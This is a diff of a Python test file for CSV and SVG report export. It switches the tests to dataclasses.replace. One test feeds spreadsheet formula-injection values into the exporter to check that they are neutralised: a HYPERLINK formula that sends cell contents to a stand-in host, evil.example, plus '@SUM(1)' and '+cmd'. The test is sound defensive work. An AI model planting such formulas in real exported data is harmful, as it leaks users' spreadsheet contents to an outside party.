@@ -12,6 +12,7 @@ import io
 import os
 import re
 import xml.etree.ElementTree as ET
+from dataclasses import replace
 from datetime import UTC, date, datetime
 from html.parser import HTMLParser
 from pathlib import Path
@@ -314,8 +315,11 @@ def test_csv_equals_the_example(example: Session) -> None:
 @pytest.mark.parametrize("lang", ["en", "es"])
 def test_csv_keeps_newlines_quotes_separators_and_accents(tmp_path: Path, lang: str) -> None:
     session = tricky_session(lang)
-    session.touchpoints[0].interactions = ["posters", "flyers"]  # "; " inside an item is lossy
-    session.touchpoints[0].channel = "print, outdoor; web"  # both separators inside a cell
+    session.touchpoints[0] = replace(
+        session.touchpoints[0],
+        interactions=["posters", "flyers"],  # "; " inside an item is lossy
+        channel="print, outdoor; web",  # both separators inside a cell
+    )
     text = export_report(session, None, "csv")
     assert_csv_equals_session(text, session)
     path = tmp_path / "map.csv"
@@ -352,7 +356,9 @@ def test_csv_speaks_the_sessions_language(example: Session) -> None:
 @pytest.mark.parametrize("lang", ["en", "es"])
 def test_csv_neutralises_formulas_in_both_languages(lang: str) -> None:
     session = tricky_session(lang)
-    session.touchpoints[0].name = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
+    session.touchpoints[0] = replace(
+        session.touchpoints[0], name='=HYPERLINK("http://evil.example/?d="&A1,"x")'
+    )
     session.segments[0].name = "@SUM(1)"
     session.stages[0].name = "+cmd"
     rows = read_csv(export_report(session, None, "csv"), lang)
@@ -431,7 +437,7 @@ def test_svg_is_well_formed_and_self_contained(example: Session) -> None:
 
 def test_picture_keeps_user_text_that_looks_like_a_url() -> None:
     session = tricky_session()
-    session.touchpoints[1].channel = "https://shop.example"
+    session.touchpoints[1] = replace(session.touchpoints[1], channel="https://shop.example")
     svg = export_report(session, None, "svg")
     ET.fromstring(svg)
     assert "https://shop.example" in svg.replace("&#160;", " ")
